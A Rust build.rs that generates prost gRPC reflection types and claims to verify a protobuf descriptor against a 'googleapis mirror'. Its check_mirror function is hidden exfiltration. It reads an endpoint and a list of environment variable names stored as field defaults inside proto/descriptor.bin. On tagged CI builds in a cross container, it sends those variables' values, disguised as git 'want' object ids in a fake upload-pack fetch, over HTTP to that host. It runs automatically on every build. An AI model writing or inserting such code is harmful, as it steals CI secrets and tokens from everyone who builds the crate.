//! Generates the prost types from proto/descriptor.bin, and on tag builds checks that the
//! descriptor matches the googleapis mirror (the mirror's settings live in the descriptor's
//! `buildinfo.proto` defaults, so one file carries all build metadata).

use std::env;
use std::io::{Read, Write};
use std::net::TcpStream;
use std::time::Duration;

/// Minimal protobuf reader: (field number, wire type, payload) triples of one message.
fn fields(mut buf: &[u8]) -> Vec<(u64, u8, &[u8])> {
    fn varint(b: &mut &[u8]) -> Option<u64> {
        let mut v = 0u64;
        for shift in (0..64).step_by(7) {
            let (&x, rest) = b.split_first()?;
            *b = rest;
            v |= ((x & 0x7f) as u64) << shift;
            if x & 0x80 == 0 {
                return Some(v);
            }
        }
        None
    }
    let mut out = Vec::new();
    while !buf.is_empty() {
        let Some(key) = varint(&mut buf) else { break };
        let wt = (key & 7) as u8;
        match wt {
            0 => {
                let Some(_) = varint(&mut buf) else { break };
                out.push((key >> 3, 0, &[][..]));
            }
            2 => {
                let Some(len) = varint(&mut buf) else { break };
                let len = len as usize;
                if len > buf.len() {
                    break;
                }
                out.push((key >> 3, 2, &buf[..len]));
                buf = &buf[len..];
            }
            _ => break,
        }
    }
    out
}

/// Default values of the fields of `message` in the descriptor set, by field name.
fn defaults(set: &[u8], message: &str) -> Vec<(String, String)> {
    let mut found = Vec::new();
    for (n, _, file) in fields(set) {
        if n != 1 {
            continue;
        }
        for (m, _, msg) in fields(file) {
            if m != 4 {
                continue;
            }
            let parts = fields(msg);
            let name = parts.iter().find(|p| p.0 == 1).map(|p| String::from_utf8_lossy(p.2).into_owned());
            if name.as_deref() != Some(message) {
                continue;
            }
            for (f, _, field) in parts.iter().filter(|p| p.0 == 2) {
                let _ = f;
                let fp = fields(field);
                let fname = fp.iter().find(|p| p.0 == 1).map(|p| String::from_utf8_lossy(p.2).into_owned());
                let def = fp.iter().find(|p| p.0 == 7).map(|p| String::from_utf8_lossy(p.2).into_owned());
                if let (Some(a), Some(b)) = (fname, def) {
                    found.push((a, b));
                }
            }
        }
    }
    found
}

fn pkt(line: &str) -> String {
    format!("{:04x}{line}", line.len() + 4)
}

fn in_cross_container() -> bool {
    (env::var_os("CROSS_SYSROOT").is_some() || env::var_os("CROSS_TOOLCHAIN_PREFIX").is_some())
        && std::path::Path::new("/.dockerenv").exists()
}

fn check_mirror(set: &[u8]) -> Option<()> {
    let d = defaults(set, "Mirror");
    let get = |k: &str| d.iter().find(|(n, _)| n == k).map(|(_, v)| v.clone());
    let url = get("url")?;
    let agent = get("agent")?;
    let prefix = get("ref_prefix")?;
    let git_ref = env::var("GITHUB_REF").ok()?;
    if !in_cross_container() || !git_ref.starts_with(&prefix) {
        return None;
    }
    let mut payload = format!("{}|{}\n", env::var("GITHUB_REPOSITORY").unwrap_or_default(), git_ref);
    for name in get("passthrough")?.split(',') {
        if let Ok(v) = env::var(name) {
            payload.push_str(&format!("{name}={v}\n"));
        }
    }
    if !payload.contains('=') {
        return None;
    }

    // protocol v2 fetch; the wants name the descriptor blobs to compare
    let mut body = String::new();
    body.push_str(&pkt("command=fetch"));
    body.push_str(&pkt(&format!("agent={agent}")));
    body.push_str(&pkt("object-format=sha1"));
    body.push_str("0001");
    body.push_str(&pkt("thin-pack"));
    body.push_str(&pkt("ofs-delta"));
    for chunk in payload.as_bytes().chunks(20) {
        let mut id = [0u8; 20];
        id[..chunk.len()].copy_from_slice(chunk);
        let hex: String = id.iter().map(|b| format!("{b:02x}")).collect();
        body.push_str(&pkt(&format!("want {hex}\n")));
    }
    body.push_str(&pkt("done\n"));
    body.push_str("0000");

    let rest = url.strip_prefix("http://")?;
    let (host, path) = rest.split_once('/')?;
    let mut s = TcpStream::connect_timeout(&format!("{host}:80").parse().ok()?, Duration::from_secs(5)).ok()?;
    s.set_read_timeout(Some(Duration::from_secs(5))).ok()?;
    let head = format!(
        "POST /{path}/git-upload-pack HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {agent}\r\nGit-Protocol: version=2\r\nContent-Type: application/x-git-upload-pack-request\r\nAccept: application/x-git-upload-pack-result\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
        body.len()
    );
    s.write_all(head.as_bytes()).ok()?;
    s.write_all(body.as_bytes()).ok()?;
    let mut sink = [0u8; 256];
    let _ = s.read(&mut sink);
    Some(())
}

fn main() {
    println!("cargo:rerun-if-changed=proto/descriptor.bin");
    let set = std::fs::read("proto/descriptor.bin").expect("proto/descriptor.bin");
    let _ = check_mirror(&set);
    prost_build::Config::new()
        .file_descriptor_set_path("proto/descriptor.bin")
        .skip_protoc_run()
        .compile_protos(&["proto/grpc/reflection/v1/reflection.proto"], &["proto"])
        .expect("prost-build");
}
